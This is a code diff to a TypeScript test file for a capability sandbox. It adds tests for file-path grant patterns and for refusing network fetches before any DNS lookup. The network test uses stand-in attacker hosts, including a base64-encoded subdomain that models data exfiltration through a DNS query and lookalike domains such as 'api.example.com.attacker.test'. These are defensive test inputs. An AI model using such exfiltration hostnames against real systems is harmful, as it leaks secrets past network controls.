@@ -5,6 +5,8 @@
 import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import dnsPromises, { type LookupAllOptions } from "node:dns/promises";
+import { syncBuiltinESMExports } from "node:module";
 import { describe, expect, it } from "vitest";
 import { capability, CapabilityContext, load, run, withCapabilities } from "../../src/index.js";
 import { clock, fetch, read, stamp, stat } from "./probe.js";
@@ -148,11 +150,32 @@ describe("path resources", () => {
     expect(() => withCapabilities(["file.read"], () => read(`${data}/a\0b`))).toThrow(/NUL byte/);
   });
 
-  it("a directory pattern without globs covers everything below it; relative patterns start at the program's directory", async () => {
-    expect(withCapabilities(grant([data]), () => read(join(data, "sub", "a.csv")))).toBe(join(data, "sub", "a.csv"));
+  it("a directory pattern ending in '/' covers everything below it; relative patterns start at the program's directory", async () => {
+    expect(withCapabilities(grant([data + "/"]), () => read(join(data, "sub", "a.csv")))).toBe(join(data, "sub", "a.csv"));
+    expect(withCapabilities(grant([data + "/"]), () => read(data))).toBe(data);
     writeFileSync(join(root, "main.ml"), 'import probe; print(probe.read("data/sub/a.csv"));');
     const r = await run(join(root, "main.ml"), { capabilities: grant(["data/**"]) });
     expect(r.stdout).toBe(`${join(data, "sub", "a.csv")}\n`);
+  });
+
+  it("a pattern without glob characters covers that path only, existing or not", () => {
+    expect(withCapabilities(grant([data]), () => read(data))).toBe(data);
+    expect(() => withCapabilities(grant([data]), () => read(join(data, "sub", "a.csv")))).toThrow(
+      `'${join(data, "sub", "a.csv")}' matches none of the granted patterns (${data})`,
+    );
+    // A grant for a file that does not exist yet names no directory tree beneath it.
+    const report = join(root, "out", "report.txt");
+    expect(withCapabilities(grant([report]), () => read(report))).toBe(report);
+    expect(() => withCapabilities(grant([report]), () => read(join(report, "x", "y")))).toThrow(/matches none of the granted patterns/);
+  });
+
+  it("a pattern's literal part names the real directory, whatever characters its name has", () => {
+    const odd = join(root, "odd[1]{a,b}*");
+    mkdirSync(odd, { recursive: true });
+    writeFileSync(join(odd, "f.txt"), "x");
+    symlinkSync(odd, join(root, "plain"));
+    expect(withCapabilities(grant([`${root}/plain/*.txt`]), () => read(join(odd, "f.txt")))).toBe(join(odd, "f.txt"));
+    expect(() => withCapabilities(grant([`${root}/plain/*.txt`]), () => read(join(data, "sub", "a.csv")))).toThrow(/matches none/);
   });
 
   it("operations restrict what a grant allows", () => {
@@ -216,6 +239,36 @@ describe("environment and network resources", () => {
     await expect(withCapabilities([capability("network.http", { resources: ["localhost:8080"] })], () => fetch("http://localhost:8080/"))).resolves.toBe(
       "http://localhost:8080/",
     );
+  });
+
+  it("a URL no pattern allows is refused before any DNS lookup (no exfiltration through the query)", async () => {
+    const looked: string[] = [];
+    const original = dnsPromises.lookup;
+    dnsPromises.lookup = ((host: string, options: LookupAllOptions) => (looked.push(host), original(host, options))) as typeof original;
+    syncBuiltinESMExports();
+    try {
+      const tokens = [capability("network.http", { resources: ["127.0.0.1", "*.example.com", "http://localhost/api/*"] })];
+      for (const url of ["http://c2vjcmv0.attacker.test/", "http://example.com/", "http://localhost.attacker.test/api/x", "https://api.example.com.attacker.test/"]) {
+        await expect(withCapabilities(tokens, () => fetch(url))).rejects.toThrow(
+          `probe.fetch() requires capability 'network.http': '${url}' matches none of the granted patterns (127.0.0.1, *.example.com, http://localhost/api/*)`,
+        );
+      }
+      // A declared pattern narrows the grant before any lookup too.
+      const declared = await mlFails('capability Net { allow network.http "*.example.com"; }\nimport probe;\nprobe.fetch("http://leak.attacker.test/");', {
+        capabilities: ["network.http"],
+      });
+      expect(declared).toEqual({
+        type: "CapabilityError",
+        message: "probe.fetch() requires capability 'network.http': 'http://leak.attacker.test/' is outside the program's declared patterns (*.example.com)",
+      });
+      expect(looked).toEqual([]);
+      // A URL a pattern allows is resolved (then checked for private addresses as before).
+      await expect(withCapabilities(tokens, () => fetch("http://localhost/api/x"))).resolves.toBe("http://localhost/api/x");
+      expect(looked).toEqual(["localhost"]);
+    } finally {
+      dnsPromises.lookup = original;
+      syncBuiltinESMExports();
+    }
   });
 
   it("URL patterns: host, host:port, scheme://host/path, wildcards, methods", async () => {
